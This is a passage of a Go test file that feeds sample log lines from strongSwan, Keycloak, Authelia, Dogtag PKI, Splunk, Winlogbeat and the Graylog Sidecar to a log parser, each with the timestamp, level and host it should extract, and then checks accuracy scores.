			we("2026-11-29T07:41:40Z", Unknown, "gw1", "Nov 29 07:41:40 gw1 charon: 11[IKE] giving up after 5 retransmits"),
		},
	},
	{
		name:   "swanctl-initiate-output",
		source: "strongSwan's `swanctl --initiate --child net` on a terminal (charon's log relayed over VICI: `[SUBSYS] msg`, then `initiate completed successfully`): docs.strongswan.org 'swanctl' (--initiate, --log); from memory of real output",
		why:    "lines with only a subsystem tag: no time, no level, no host",
		entries: []worldEntry{
			we("", Unknown, "", "[IKE] initiating IKE_SA home[1] to 198.51.100.1"),
			we("", Unknown, "", "[ENC] generating IKE_SA_INIT request 0 [ SA KE No N(NATD_S_IP) N(NATD_D_IP) N(FRAG_SUP) N(HASH_ALG) N(REDIR_SUP) ]"),
			we("", Unknown, "", "[NET] sending packet: from 192.168.1.20[500] to 198.51.100.1[500] (464 bytes)"),
			we("", Unknown, "", "[IKE] IKE_SA home[1] established between 192.168.1.20[carol@example.org]...198.51.100.1[gw.example.org]"),
			we("", Unknown, "", "[IKE] CHILD_SA net{1} established with SPIs c5a1e2b4_i ca9f0d12_o and TS 10.1.0.0/16 === 10.2.0.0/16"),
			we("", Unknown, "", "initiate completed successfully"),
		},
	},
	{
		name:   "keycloak-json-log",
		source: "Keycloak 2x with `--log-console-output=json` (Quarkus's JSON formatter: timestamp, sequence, loggerClassName, loggerName, level, message, threadName, threadId, mdc, ndc, hostName, processName, processId): keycloak.org 'Configuring logging' (JSON output); from memory of real lines. Keycloak's default text log is an earlier table's",
		why:    "a JSON record whose level is a JBoss level word and whose hostName is the pod's own host name",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Info, "kc-0", `{"timestamp":"2026-11-29T07:41:16.412Z","sequence":8812,"loggerClassName":"org.jboss.logging.Logger","loggerName":"io.quarkus","level":"INFO","message":"Keycloak 26.0.6 on JVM (powered by Quarkus 3.15.1) started in 9.411s. Listening on: http://0.0.0.0:8080. Management interface listening on http://0.0.0.0:9000.","threadName":"main","threadId":1,"mdc":{},"ndc":"","hostName":"kc-0","processName":"/usr/lib/jvm/jre-21/bin/java","processId":1}`),
			we("2026-11-29T07:41:20.004Z", Warn, "kc-0", `{"timestamp":"2026-11-29T07:41:20.004Z","sequence":8840,"loggerClassName":"org.jboss.logging.DelegatingBasicLogger","loggerName":"org.keycloak.events","level":"WARN","message":"type=\"LOGIN_ERROR\", realmId=\"8f1c2a7e\", realmName=\"corp\", clientId=\"portal\", userId=\"null\", ipAddress=\"203.0.113.45\", error=\"user_not_found\", auth_method=\"openid-connect\", username=\"admin\"","threadName":"executor-thread-4","threadId":41,"mdc":{},"ndc":"","hostName":"kc-0","processName":"/usr/lib/jvm/jre-21/bin/java","processId":1}`),
			we("2026-11-29T07:41:25.771Z", Error, "kc-0", `{"timestamp":"2026-11-29T07:41:25.771Z","sequence":8861,"loggerClassName":"org.jboss.logging.Logger","loggerName":"org.keycloak.services","level":"ERROR","message":"KC-SERVICES0013: Failed authentication","threadName":"executor-thread-7","threadId":44,"mdc":{},"ndc":"","hostName":"kc-0","processName":"/usr/lib/jvm/jre-21/bin/java","processId":1,"exception":{"refId":1,"exceptionType":"org.keycloak.authentication.AuthenticationFlowException","message":"Invalid user credentials","frames":[{"class":"org.keycloak.authentication.AuthenticationProcessor","method":"authenticateOnly","line":1041}]}}`),
		},
	},
	{
		name:   "keycloak-wildfly-server-log",
		source: "legacy Keycloak 1x on WildFly, standalone/log/server.log (the WildFly periodic-rotating-file handler's `%d{yyyy-MM-dd HH:mm:ss,SSS} %-5p [%c] (%t) %s%e%n`, a stack trace on the following lines): the Keycloak 16 Server Installation guide 'Logging' and keycloak/keycloak discussions pasting server.log; from memory of real lines. The Quarkus distribution's log is an earlier table's",
		why:    "a comma before the milliseconds, a padded level, the logger in brackets and the thread in parentheses; an uncaught error with its trace is one record",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Info, "", "2026-11-29 07:41:16,412 INFO  [org.jboss.as] (Controller Boot Thread) WFLYSRV0025: Keycloak 15.0.2 (WildFly Core 15.0.1.Final) started in 18811ms - Started 692 of 977 services (686 services are lazy, passive or on-demand)"),
			we("2026-11-29T07:41:22.004Z", Warn, "", "2026-11-29 07:41:22,004 WARN  [org.keycloak.events] (default task-12) type=LOGIN_ERROR, realmId=corp, clientId=portal, userId=null, ipAddress=203.0.113.45, error=user_not_found, auth_method=openid-connect, auth_type=code, redirect_uri=https://portal.example.org/, code_id=4f1e2d3c, username=admin"),
			we("2026-11-29T07:41:25.771Z", Error, "",
				"2026-11-29 07:41:25,771 ERROR [org.keycloak.services.error.KeycloakErrorHandler] (default task-14) Uncaught server error: java.lang.NullPointerException",
				"\tat org.keycloak.keycloak-services@15.0.2//org.keycloak.services.resources.admin.UserResource.getUser(UserResource.java:412)",
				"\tat jdk.internal.reflect.GeneratedMethodAccessor612.invoke(Unknown Source)",
				"\tat java.base/java.lang.Thread.run(Thread.java:829)"),
			we("2026-11-29T07:41:30.002Z", Info, "", "2026-11-29 07:41:30,002 INFO  [org.keycloak.services] (ServerService Thread Pool -- 64) KC-SERVICES0006: Importing users from '/opt/jboss/keycloak/standalone/configuration/keycloak-add-user.json'"),
		},
	},
	{
		name:   "authelia-json",
		source: "Authelia 4.3x with `log.format: json` (logrus's JSON formatter: level, method, msg, path, remote_ip, stack, time in RFC 3339 with the local offset): authelia docs 'Configuration > Miscellaneous > Logging' (format); from memory of real lines. Authelia's text format is an earlier table's",
		why:    "a logrus JSON record: level words info, warning and error; time with a +01:00 offset converted; the client address is no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Info, "", `{"level":"info","msg":"Authelia v4.38.17 is starting","time":"2026-11-29T08:41:16+01:00"}`),
			we("2026-11-29T07:41:16Z", Info, "", `{"level":"info","msg":"Startup complete","time":"2026-11-29T08:41:16+01:00"}`),
			we("2026-11-29T07:41:20Z", Error, "", `{"error":"invalid credentials","level":"error","method":"POST","msg":"Unsuccessful 1FA authentication attempt by user 'alice'","path":"/api/firstfactor","remote_ip":"203.0.113.45","time":"2026-11-29T08:41:20+01:00"}`),
			we("2026-11-29T07:41:25Z", Warn, "", `{"level":"warning","msg":"Configuration: authentication_backend: ldap: option 'tls.skip_verify' is true which is insecure","time":"2026-11-29T08:41:25+01:00"}`),
		},
	},
	{
		name:   "dogtag-pki-ca-debug",
		source: "the Dogtag PKI CA's debug log on a FreeIPA server, /var/log/pki/pki-tomcat/ca/debug.yyyy-MM-dd.log (PKI 10.10+: `yyyy-MM-dd HH:mm:ss [thread] LEVEL: msg` with JUL levels, a stack trace on the following lines): dogtagpki/pki issues #3458, #3744, #3925 and #5047 and PR #402 pasting debug logs. FreeIPA's install log, its API in Apache's error_log and 389 DS's files are earlier tables'; the CA's debug log is in none",
		why:    "the thread in brackets between the time and a JUL level with a colon; SEVERE is Error; the exception's trace is part of its record",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Info, "", "2026-11-29 07:41:16 [main] INFO: CMSEngine: Java version: 17.0.13"),
			we("2026-11-29T07:41:17Z", Info, "", "2026-11-29 07:41:17 [main] INFO: CMSEngine: verifying connection to ipa1.corp.example.org:389 as cn=Directory Manager"),
			we("2026-11-29T07:41:22Z", Warn, "", "2026-11-29 07:41:22 [https-jsse-nio-8443-exec-6] WARNING: Certificate request deferred: defer request"),
			we("2026-11-29T07:41:25Z", Error, "",
				"2026-11-29 07:41:25 [https-jsse-nio-8443-exec-3] SEVERE: PKIServerSocketListener: null",
				"java.lang.NullPointerException",
				"\tat org.dogtagpki.server.PKIServerSocketListener.handshakeCompleted(PKIServerSocketListener.java:155)",
				"\tat org.mozilla.jss.ssl.javax.JSSEngine.fireHandshakeComplete(JSSEngine.java:1012)",
				"\tat java.base/java.lang.Thread.run(Thread.java:840)"),
			we("2026-11-29T07:41:30Z", Info, "", "2026-11-29 07:41:30 [https-jsse-nio-8443-exec-6] INFO: CertProcessor: Submitting certificate request to caIPAserviceCert profile"),
		},
	},

	// SIEM forwarders' own files: Splunk's other files, Winlogbeat 8's events, the Graylog Sidecar.
	{
		name:   "splunk-audit-log",
		source: "Splunk's $SPLUNK_HOME/var/log/splunk/audit.log (splunkd's header `MM-dd-yyyy HH:mm:ss.SSS ±zzzz LEVEL  AuditLogger - ` before `Audit:[timestamp=MM-dd-yyyy HH:mm:ss.SSS, user=…, action=…, info=… …][n/a]`): Splunk Securing Splunk Enterprise 'Audit Splunk Enterprise activity'; from memory of real lines. splunkd.log is an earlier table's; audit.log is in none",
		why:    "splunkd's month-first date with an offset, then the level; the audit's own timestamp= repeats it",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Info, "", `11-29-2026 07:41:16.412 +0000 INFO  AuditLogger - Audit:[timestamp=11-29-2026 07:41:16.412, user=admin, action=login attempt, info=succeeded reason=user-initiated useragent="Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0" clientip=10.0.0.5 method=LDAP session=4f1e2d3c4b5a6978][n/a]`),
			we("2026-11-29T07:41:20.004Z", Info, "", `11-29-2026 07:41:20.004 +0000 INFO  AuditLogger - Audit:[timestamp=11-29-2026 07:41:20.004, user=admin, action=search, info=granted , search_id='1795938080.4411', total_run_time=, event_count=, result_count=, available_count=, scan_count=, drop_count=, exec_time=, api_et=1795934480.000000000, api_lt=1795938080.000000000, search_et=N/A, search_lt=N/A, is_realtime=0, savedsearch_name="", search_startup_time="", is_prjob="false", acceleration_id="", app="search", provenance="UI:Search", mode="historical", workload_pool="", is_proxied=false, searched_buckets=, eliminated_buckets=, considered_events=, total_slices=, decompressed_slices=, duration.command.search.index=, invocations.command.search.index.bucketcache.hit=, search='search index=main sourcetype=linux_secure "Failed password"'][n/a]`),
			we("2026-11-29T07:41:25.771Z", Info, "", `11-29-2026 07:41:25.771 +0000 INFO  AuditLogger - Audit:[timestamp=11-29-2026 07:41:25.771, user=n/a, action=login attempt, info=failed reason=user-initiated useragent="python-requests/2.32.3" clientip=203.0.113.45 method=Splunk session=][n/a]`),
		},
	},
	{
		name:   "splunkd-access-log",
		source: "Splunk's $SPLUNK_HOME/var/log/splunk/splunkd_access.log (the management port's access log: `client - user [dd/Mmm/yyyy:HH:mm:ss.SSS ±zzzz] \"request\" status bytes \"referer\" \"user-agent\" - duration ms`): Splunk Troubleshooting Manual 'What Splunk logs about itself' (splunkd_access.log); from memory of real lines",
		why:    "an NCSA line with milliseconds in the bracketed time and a duration in ms at the end; the status is no level; the client is no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Unknown, "", `127.0.0.1 - splunk-system-user [29/Nov/2026:07:41:16.412 +0000] "GET /services/data/indexes?count=0&datatype=all HTTP/1.1" 200 43211 "-" "Splunk/9.3.1 (Linux 6.8.0-49-generic; arch=x86_64)" - 4ms`),
			we("2026-11-29T07:41:20.004Z", Unknown, "", `10.0.0.5 - admin [29/Nov/2026:07:41:20.004 +0000] "POST /services/search/v2/jobs HTTP/1.1" 201 98 "-" "splunk-sdk-python/2.1.0" - 31ms`),
			we("2026-11-29T07:41:25.771Z", Unknown, "", `203.0.113.45 - - [29/Nov/2026:07:41:25.771 +0000] "POST /services/auth/login HTTP/1.1" 401 130 "-" "python-requests/2.32.3" - 212ms`),
		},
	},
	{
		name:   "splunk-metrics-log",
		source: "the Splunk universal forwarder's $SPLUNK_HOME/var/log/splunk/metrics.log (splunkd's header `MM-dd-yyyy HH:mm:ss.SSS ±zzzz INFO  Metrics - group=…, name=…, key=value, …` every 30 seconds): Splunk Troubleshooting Manual 'About metrics.log'; from memory of real lines. splunkd.log's layout is an earlier table's; metrics.log's group lines are in none",
		why:    "splunkd's layout over comma-separated counters; the indexer's destIp is a peer, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Info, "", "11-29-2026 07:41:16.412 +0000 INFO  Metrics - group=thruput, name=thruput, instantaneous_kbps=3.215, instantaneous_eps=11.400, average_kbps=2.911, total_k_processed=88123.000, kb=99.600, ev=353, load_average=0.310"),
			we("2026-11-29T07:41:16.412Z", Info, "", "11-29-2026 07:41:16.412 +0000 INFO  Metrics - group=tcpout_connections, name=default-autolb-group:10.0.0.50:9997:0, sourcePort=8089, destIp=10.0.0.50, destPort=9997, _tcp_Bps=3290.27, _tcp_KBps=3.21, _tcp_avg_thruput=2.91, _tcp_Kprocessed=88123, _tcp_eps=11.40, kb=99.60, max_ackq_size=22020096, current_ackq_size=0"),
			we("2026-11-29T07:41:46.413Z", Info, "", "11-29-2026 07:41:46.413 +0000 INFO  Metrics - group=queue, name=parsingqueue, max_size_kb=512, current_size_kb=0, current_size=0, largest_size=3, smallest_size=0"),
		},
	},
	{
		name:   "winlogbeat8-ecs-ndjson",
		source: "Winlogbeat 8 with the file output (one ECS document a line: @timestamp, @metadata, host.name, agent, winlog with computer_name, channel, event_id, provider_name and event_data, event with code, provider, action, outcome, kind, log.level as Windows' level name information, warning or error, message): elastic.co Winlogbeat 8 'Exported fields' (ECS) and 'Configure the File output'; from memory of real documents. Winlogbeat 6's documents are an earlier table's",
		why:    "log.level carries the Windows event level; host.name is the machine that logged it",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Info, "dc01.corp.example.org", `{"@timestamp":"2026-11-29T07:41:16.412Z","@metadata":{"beat":"winlogbeat","type":"_doc","version":"8.16.1"},"host":{"name":"dc01.corp.example.org"},"agent":{"type":"winlogbeat","version":"8.16.1","name":"DC01"},"winlog":{"computer_name":"dc01.corp.example.org","channel":"Security","event_id":"4625","provider_name":"Microsoft-Windows-Security-Auditing","record_id":88123411,"keywords":["Audit Failure"],"event_data":{"TargetUserName":"administrator","IpAddress":"203.0.113.45","LogonType":"3","Status":"0xc000006d"}},"event":{"code":"4625","provider":"Microsoft-Windows-Security-Auditing","action":"Logon","outcome":"failure","kind":"event","created":"2026-11-29T07:41:17.004Z"},"log":{"level":"information"},"message":"An account failed to log on."}`),
			we("2026-11-29T07:41:20.771Z", Warn, "dc01.corp.example.org", `{"@timestamp":"2026-11-29T07:41:20.771Z","@metadata":{"beat":"winlogbeat","type":"_doc","version":"8.16.1"},"host":{"name":"dc01.corp.example.org"},"agent":{"type":"winlogbeat","version":"8.16.1","name":"DC01"},"winlog":{"computer_name":"dc01.corp.example.org","channel":"System","event_id":"5805","provider_name":"NETLOGON","record_id":412041},"event":{"code":"5805","provider":"NETLOGON","kind":"event","created":"2026-11-29T07:41:21.002Z"},"log":{"level":"warning"},"message":"The session setup from the computer WS-0412 failed to authenticate."}`),
			we("2026-11-29T07:41:25.004Z", Error, "dc01.corp.example.org", `{"@timestamp":"2026-11-29T07:41:25.004Z","@metadata":{"beat":"winlogbeat","type":"_doc","version":"8.16.1"},"host":{"name":"dc01.corp.example.org"},"agent":{"type":"winlogbeat","version":"8.16.1","name":"DC01"},"winlog":{"computer_name":"dc01.corp.example.org","channel":"System","event_id":"7023","provider_name":"Service Control Manager","record_id":412044},"event":{"code":"7023","provider":"Service Control Manager","kind":"event","created":"2026-11-29T07:41:25.300Z"},"log":{"level":"error"},"message":"The DFS Replication service terminated with the following error: The specified domain either does not exist or could not be contacted."}`),
		},
	},
	{
		name:   "graylog-sidecar-log",
		source: "the Graylog Sidecar's own log /var/log/graylog-sidecar/sidecar.log (logrus text: `time=\"RFC 3339 with the local offset\" level=… msg=\"…\"`, a collector's name in brackets at the start of msg): Graylog2/collector-sidecar issues #83, #116 and #345 and ion-storm/Graylog_Sysmon issue #3 pasting sidecar logs. No earlier table holds the Sidecar's log",
		why:    "logrus key=value with an offset time; level words info, warning and error; the collector in brackets is no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Info, "", `time="2026-11-29T08:41:16+01:00" level=info msg="Using node-id: 7c1e9a2b-4d3f-4e5a-8b6c-9d0e1f2a3b4c"`),
			we("2026-11-29T07:41:16Z", Info, "", `time="2026-11-29T08:41:16+01:00" level=info msg="Starting signal distributor"`),
			we("2026-11-29T07:41:26Z", Info, "", `time="2026-11-29T08:41:26+01:00" level=info msg="[filebeat] Configuration change detected, rewriting configuration file."`),
			we("2026-11-29T07:41:27Z", Warn, "", `time="2026-11-29T08:41:27+01:00" level=warning msg="[winlogbeat] Collector not found in the configured collector list, skipping."`),
			we("2026-11-29T07:41:28Z", Error, "", `time="2026-11-29T08:41:28+01:00" level=error msg="[filebeat] Couldn't start validation command: fork/exec /usr/share/filebeat/bin/filebeat: no such file or directory"`),
		},
	},
}

func TestFresh66Formats(t *testing.T) { assertTable(t, fresh66Cases) }

func TestFresh66Score(t *testing.T) {
	checkScore(t, "fresh66 formats", fresh66Cases, [worldNumFields]float64{99.3, 97, 94.1, 96.3})
}
